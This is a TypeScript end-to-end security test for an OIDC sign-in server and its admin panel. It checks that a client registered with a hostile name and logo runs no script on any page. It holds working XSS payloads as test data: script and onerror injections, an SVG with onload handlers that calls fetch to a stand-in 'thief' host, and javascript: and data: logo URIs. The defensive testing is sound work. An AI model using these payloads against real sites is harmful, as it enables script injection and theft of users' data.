/**
 * Whoever registers a client chooses what people and administrators read and see of it. None of that may run: its name
 * is text, and its logo a picture, on every page and in the panel.
 */
import type { Page } from '@playwright/test';
import { it } from 'vitest';
import { sql } from '../../support/database.ts';
import { expect, picture } from '../../support/chromium.ts';
import { desktop, PASSWORD, register, settled, type Panel } from '../../support/panel.ts';

const NAME = `</title></style><script>window.pwned=1</script><img src=x onerror="window.pwned=1">"'>`;
const LOGO = 'https://logos.example.org/logo.svg';
const CALLBACK = 'https://hostile.example.org/callback';

/** A picture that is a page of its own where it is opened as one. */
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="56" height="56" onload="top.pwned=1">
  <script>top.pwned=1; fetch('https://thief.example.org/');</script>
  <foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="top.pwned=1"/></foreignObject>
  <rect width="56" height="56" fill="red"/></svg>`;

const RUNNING = '[onerror], [onload], img[src=x], script:text("pwned")';

interface Theft {
  /** What was sent to the thief. */
  stolen: string[];
}

async function expectNothingRuns(page: Page, { stolen }: Theft): Promise<void> {
  await page.waitForLoadState('load');
  expect(await page.locator(RUNNING).count(), page.url()).toBe(0);
  expect(await page.evaluate(() => 'pwned' in window), page.url()).toBe(false);
  expect(stolen).toEqual([]);
}

/** A page of ours has nothing to run at all. */
async function expectNoScript(page: Page, theft: Theft): Promise<void> {
  await expectNothingRuns(page, theft);
  expect(await page.locator('script, object, embed, iframe').count(), page.url()).toBe(0);
}

const expectName = (page: Page): Promise<void> =>
  expect(page.getByText('<script>window.pwned=1</script>').first()).toBeVisible();

const hasLoaded = (page: Page) =>
  page.locator(`img[src="${LOGO}"]`).evaluate((image: HTMLImageElement) => image.naturalWidth);

/** As nobody can register it: an older version's data, or another hand in the database. */
function setLogo({ host }: Panel, clientId: string, logo: string): void {
  sql(
    host,
    "update oidc_clients set metadata = json_set(metadata, '$.logo_uri', ?) where client_id = ?",
    logo,
    clientId,
  );
  sql(host, "update oidc_revisions set number = number + 1 where topic = 'clients'");
}

const authorize = ({ host }: Panel, clientId: string, more: Record<string, string> = {}): string => {
  const request = { client_id: clientId, redirect_uri: CALLBACK, response_type: 'code', scope: 'openid' };
  return `${host.url}/oidc/authorize?${new URLSearchParams({ ...request, ...more }).toString()}`;
};

/** Serves the logo, and writes down what reaches the thief. */
async function serveElsewhere(page: Page): Promise<Theft> {
  const stolen: string[] = [];
  await page.route('https://*.example.org/**', async (route) => {
    const url = route.request().url();
    if (url.startsWith('https://thief.')) stolen.push(url);
    await (url === LOGO
      ? route.fulfill({ contentType: 'image/svg+xml', body: SVG })
      : route.fulfill({ contentType: 'text/html', body: 'Elsewhere' }));
  });
  return { stolen };
}

const submit = (page: Page): Promise<void> =>
  page.locator('form').first().locator('button[type=submit]').first().click();

const givePassword = async (page: Page): Promise<void> => {
  await page.locator('input[name=identifier]').fill('alice');
  await page.locator('input[name=password]').fill(PASSWORD);
  await submit(page);
};

export function hostileClient(panelOf: () => Panel): void {
  it('runs nothing on the pages around signing in', async () => {
    const panel = panelOf();
    const client = await register(panel, 'Hostile', {
      client_name: NAME,
      redirect_uris: [CALLBACK],
      client_uri: 'https://hostile.example.org/',
      logo_uri: LOGO,
    });
    const { client_id: id } = client;
    await panel.visit(desktop, async (page) => {
      const theft = await serveElsewhere(page);
      for (const prompt of ['create', 'login']) {
        await page.goto(authorize(panel, id, { prompt }));
        await expectName(page);
        await expectNoScript(page, theft);
        expect(await hasLoaded(page)).toBeGreaterThan(0);
      }
      await picture(page, 'hostile-sign-in');
      await givePassword(page);
      const accept = page.locator('button[name=decision][value=accept]');
      await accept.waitFor();
      await expectName(page);
      await expectNoScript(page, theft);
      expect(await hasLoaded(page)).toBeGreaterThan(0);
      await picture(page, 'hostile-consent');
      await accept.click();
      await expect(page.getByText('Elsewhere')).toBeVisible();

      await page.goto(authorize(panel, id, { prompt: 'select_account' }));
      await expectName(page);
      await expectNoScript(page, theft);
      await page.goto(`${panel.host.url}/oidc/logout?client_id=${id}`);
      await expectName(page);
      await expectNoScript(page, theft);
      await page.locator('button[name=logout][value=yes]').click();
      await expect(page.getByText('signed out').first()).toBeVisible();
      await expectNoScript(page, theft);

      const { body } = await panel.admin.call('GET', `/oidc-server/clients/${id}`);
      const refused = await panel.admin.call('PUT', `/oidc-server/clients/${id}`, {
        ...body,
        access_policy: { default: 'deny', rules: [] },
      });
      expect(refused.status).toBe(200);
      await page.goto(authorize(panel, id));
      await givePassword(page);
      await expect(page.locator('input[name=password]')).toHaveCount(0);
      await expectName(page);
      await expectNoScript(page, theft);
      await picture(page, 'hostile-denied');
    });
  });

  it('signs nobody in to a client whose logo is no address on the web, whatever the database says', async () => {
    const panel = panelOf();
    const { client_id: id } = await register(panel, 'Hostile', {
      client_name: NAME,
      redirect_uris: [CALLBACK],
    });
    await panel.visit(desktop, async (page) => {
      const theft = await serveElsewhere(page);
      for (const logo of ['javascript:window.pwned=1', `data:image/svg+xml,${encodeURIComponent(SVG)}`]) {
        setLogo(panel, id, logo);
        const answer = await page.goto(authorize(panel, id));
        await expectNoScript(page, theft);
        expect(answer?.status()).toBe(400);
        expect(await page.locator('img').count(), logo).toBe(0);
        expect(answer?.headers()['content-security-policy']).toContain("img-src 'none'");
      }
    });
  });

  it('runs nothing in the panel', async () => {
    const panel = panelOf();
    const { client_id: id } = await register(panel, 'Hostile', {
      client_name: NAME,
      redirect_uris: [CALLBACK],
      logo_uri: LOGO,
    });
    await panel.asAdmin(desktop, async (page) => {
      const theft = await serveElsewhere(page);
      await page.goto(`${panel.url}/clients?_q=pwned`);
      await expectName(page);
      await expectNothingRuns(page, theft);
      await page.goto(`${panel.url}/clients/${id}?tab=connect`);
      await settled(page);
      await expectName(page);
      await expectNothingRuns(page, theft);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(NAME);
      await page.getByRole('button', { name: 'Delete' }).click();
      await expect(page.getByRole('alertdialog')).toContainText('<script>');
      await page.getByRole('button', { name: 'Cancel' }).click();
      await page.getByRole('tab', { name: 'Looks' }).click();
      await expect(page.locator('iframe[title="Preview"]')).toHaveAttribute('srcdoc', /&lt;script>/);
      await expect(page.locator('iframe[title="Preview"]')).toHaveAttribute('sandbox', '');
      for (const list of ['sessions', 'grants', 'events']) {
        await page.goto(`${panel.url}/${list}`);
        await settled(page);
        await expectNothingRuns(page, theft);
      }
      await page.goto(panel.url);
      await settled(page);
      await expectNothingRuns(page, theft);
    });
  });
}
